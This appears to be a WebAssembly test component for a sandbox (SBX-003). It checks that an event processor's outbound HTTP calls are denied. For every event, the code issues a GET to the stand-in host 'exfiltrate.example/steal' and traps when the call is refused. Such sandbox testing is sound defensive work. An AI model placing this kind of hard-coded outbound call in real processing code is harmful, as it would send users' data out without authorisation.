;; http-denial-traps (SBX-003) -- declares and imports http-client; for every supported event it
;; GETs https://exfiltrate.example/steal and executes `unreachable` when the host answers err
;; (which a sandbox whose allowed_domains do not list exfiltrate.example always does); were the
;; request answered, the event would give the baseline's derived event.
;; request: method, url, headers (ptr, len each), body option<string> (disc, ptr, len),
;; timeout-ms, retptr; result<http-response, http-error> at the retptr: 0 discriminant.

(import "obsrvr:flowctl/http-client@1.0.0" "request"
  (func $http-client.request (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))

(data (i32.const 512) "GET")
(data (i32.const 520) "https://exfiltrate.example/steal")
(data (i32.const 560) "http-client")

(func $member.get-info (export "obsrvr:flowctl/processor@1.0.0#get-info") (result i32)
  (call $zoo-info-with-capability (i32.const 560) (i32.const 11)))

(func $member.process-batch (export "obsrvr:flowctl/processor@1.0.0#process-batch") (param $ptr i32) (param $len i32) (result i32)
  (local $i i32) (local $ev i32) (local $check i32)
  (if (call $not-initialized) (then (return (call $err-not-initialized))))
  (call $out-begin (local.get $len))
  (block $done
    (loop $next
      (br_if $done (i32.ge_u (local.get $i) (local.get $len)))
      (local.set $ev (call $event-at (local.get $ptr) (local.get $i)))
      (local.set $check (call $check-event (local.get $ev)))
      (if (i32.eq (local.get $check) (i32.const 2)) (then (return (call $err-malformed))))
      (if (i32.eqz (local.get $check))
        (then
          (call $http-client.request
            (i32.const 512) (i32.const 3) (i32.const 520) (i32.const 32)
            (global.get $EMPTY_LIST) (i32.const 0)
            (i32.const 0) (i32.const 0) (i32.const 0)
            (i32.const 1000) (global.get $SCRATCH))
          ;; a denial is an answer; this component treats it as impossible
          (if (i32.load8_u (global.get $SCRATCH)) (then unreachable))
          (drop (call $out-push-derived (local.get $ev)))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $next)))
  (call $ret-out))

;; process-event(e) is process-batch([e]): the event record is a one-element list in place
(func $member.process-event (export "obsrvr:flowctl/processor@1.0.0#process-event") (param $ev i32) (result i32)
  (call $member.process-batch (local.get $ev) (i32.const 1)))
